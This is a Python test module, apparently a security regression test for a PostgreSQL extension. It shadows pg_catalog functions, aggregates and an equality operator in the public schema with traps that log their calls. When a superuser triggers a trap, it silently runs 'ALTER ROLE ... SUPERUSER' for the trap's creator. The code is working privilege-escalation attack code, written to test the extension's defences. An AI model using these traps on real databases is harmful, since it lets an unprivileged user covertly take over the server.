"""Look-alike functions, aggregates and operators that try to hijack udfs's server-side SQL.

For every pg_catalog function whose name appears as a call in the code that runs inside the
backend (``udfs/postgres/server/*.py``, ``udfs/postgres/sql/install.sql``), a non-superuser creates a copy with
the same arguments in ``public``, plus the more specific overloads the red-team review used
(``array_position(int2vector, smallint)``, ``pg_relation_size(integer)``, ``oid = integer``).
Each trap counts its call on a sequence (``nextval`` survives a rollback) and, when the caller
is a superuser, makes its creator a superuser too, then forwards to the real function, so the
statement it hijacked goes on as if nothing happened. Code added later is covered as soon as
it calls a function by name.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
SERVER_SOURCES = [
    *sorted((ROOT / "udfs" / "postgres" / "server").glob("*.py")),
    ROOT / "udfs" / "postgres" / "sql" / "install.sql",
]
# Names any run of SQL calls that are too generic to prove anything, or not functions.
NOT_FUNCTIONS = {"exists", "any", "all", "in", "values", "coalesce", "nullif", "greatest", "least"}
# Trapped by hand: what the review used, and shapes the generic copies cannot take.
SPECIFIC = [
    "CREATE FUNCTION public.array_position(a int2vector, e smallint) RETURNS int "
    "LANGUAGE plpgsql AS $$ BEGIN PERFORM public.udfs_trap('array_position');"
    " RETURN pg_catalog.array_position(a::smallint[], e); END $$",
    "CREATE FUNCTION public.pg_relation_size(r integer) RETURNS bigint "
    "LANGUAGE plpgsql AS $$ BEGIN PERFORM public.udfs_trap('pg_relation_size');"
    " RETURN pg_catalog.pg_relation_size(r::oid::regclass); END $$",
    "CREATE FUNCTION public.udfs_trap_oideq(a oid, b integer) RETURNS boolean "
    "LANGUAGE plpgsql AS $$ BEGIN PERFORM public.udfs_trap('oid = integer');"
    " RETURN a OPERATOR(pg_catalog.=) b::oid; END $$",
    "CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = integer, "
    "FUNCTION = public.udfs_trap_oideq)",
    "CREATE FUNCTION public.jsonb_build_object(k text, v bigint) RETURNS jsonb "
    "LANGUAGE plpgsql AS $$ BEGIN PERFORM public.udfs_trap('jsonb_build_object');"
    " RETURN pg_catalog.jsonb_build_object(k, v); END $$",
    "CREATE FUNCTION public.udfs_trap_sagg(s bytea, v bytea, d bytea) RETURNS bytea "
    "LANGUAGE plpgsql AS $$ BEGIN PERFORM public.udfs_trap('string_agg');"
    " RETURN CASE WHEN s IS NULL THEN v ELSE s || d || v END; END $$",
    "CREATE AGGREGATE public.string_agg(bytea, bytea) (SFUNC = public.udfs_trap_sagg, STYPE = bytea)",
    "CREATE FUNCTION public.udfs_trap_aagg(s anycompatiblearray, v anycompatiblenonarray) "
    "RETURNS anycompatiblearray LANGUAGE plpgsql AS $$ BEGIN PERFORM public.udfs_trap('array_agg');"
    " RETURN pg_catalog.array_append(s, v); END $$",
    "CREATE AGGREGATE public.array_agg(anycompatiblenonarray) "
    "(SFUNC = public.udfs_trap_aagg, STYPE = anycompatiblearray)",
    "CREATE FUNCTION public.udfs_trap_count(s bigint) RETURNS bigint "
    "LANGUAGE plpgsql AS $$ BEGIN PERFORM public.udfs_trap('count'); RETURN s + 1; END $$",
    "CREATE AGGREGATE public.count(*) (SFUNC = public.udfs_trap_count, STYPE = bigint, INITCOND = '0')",
]
TRAP = """
CREATE SEQUENCE public.udfs_trap_hits;
GRANT USAGE ON SEQUENCE public.udfs_trap_hits TO PUBLIC;
CREATE TABLE public.udfs_trap_names (name text);
CREATE FUNCTION public.udfs_trap(name text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    PERFORM pg_catalog.nextval('public.udfs_trap_hits');
    BEGIN
        INSERT INTO public.udfs_trap_names VALUES (name);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname = current_user) THEN
        EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', '{owner}');
    END IF;
END $$;
GRANT INSERT ON public.udfs_trap_names TO PUBLIC;
"""


def called_names() -> set[str]:
    """Every ``name(`` in the server-side sources, lowercase, minus SQL keywords."""
    names: set[str] = set()
    for path in SERVER_SOURCES:
        names |= {
            m.lower() for m in re.findall(r"\b([A-Za-z_][A-Za-z0-9_]*)\s*\(", path.read_text())
        }
    return names - NOT_FUNCTIONS


def _generic(cur: Any, names: set[str]) -> list[str]:
    """Copies in public of every plain pg_catalog function named in ``names``."""
    cur.execute(
        "SELECT p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid), "
        "pg_catalog.pg_get_function_result(p.oid), p.proretset, p.pronargs, "
        "p.provariadic <> 0 FROM pg_catalog.pg_proc p "
        "WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' "
        "AND p.proname = ANY(%s) AND p.proargmodes IS NULL "
        "AND NOT EXISTS (SELECT FROM unnest(p.proargtypes::oid[]) t "
        "  WHERE t IN ('internal'::regtype, 'cstring'::regtype, '\"any\"'::regtype, "
        "  'anyrange'::regtype, 'anymultirange'::regtype, 'trigger'::regtype)) "
        "AND p.prorettype NOT IN ('internal'::regtype, 'cstring'::regtype, 'trigger'::regtype)",
        (sorted(names),),
    )
    out = []
    for name, args, result, retset, nargs, variadic in cur.fetchall():
        params = [f"${i}" for i in range(1, nargs + 1)]
        if variadic:
            params[-1] = "VARIADIC " + params[-1]
        call = f"pg_catalog.{name}({', '.join(params)})"
        body = f"RETURN QUERY SELECT * FROM {call};" if retset else f"RETURN {call};"
        out.append(
            f"CREATE FUNCTION public.{name}({args}) RETURNS {result} LANGUAGE plpgsql AS "
            f"$$ BEGIN PERFORM public.udfs_trap('{name}'); {body} END $$"
        )
    return out


def plant(dsn: str, owner: str) -> list[str]:
    """As ``owner`` (connected by ``dsn``), create every trap; return the functions trapped."""
    import psycopg2

    conn = psycopg2.connect(dsn)
    conn.autocommit = True
    planted = []
    try:
        with conn.cursor() as cur:
            cur.execute(TRAP.replace("{owner}", owner))
            for statement in SPECIFIC + _generic(cur, called_names()):
                try:
                    cur.execute(statement)
                except psycopg2.errors.DuplicateFunction:  # two overloads with one identity
                    continue
                planted.append(statement.split("(")[0].split()[-1])
    finally:
        conn.close()
    return planted


def hits(cur: Any) -> tuple[int, list[str]]:
    """How many times a trap ran, and the names that were recorded (if not rolled back)."""
    cur.execute("SELECT CASE WHEN is_called THEN last_value ELSE 0 END FROM public.udfs_trap_hits")
    count = cur.fetchone()[0]
    cur.execute("SELECT DISTINCT name FROM public.udfs_trap_names ORDER BY 1")
    return count, [r[0] for r in cur.fetchall()]


def reset(cur: Any) -> None:
    cur.execute("SELECT pg_catalog.setval('public.udfs_trap_hits', 1, false)")
    cur.execute("TRUNCATE public.udfs_trap_names")
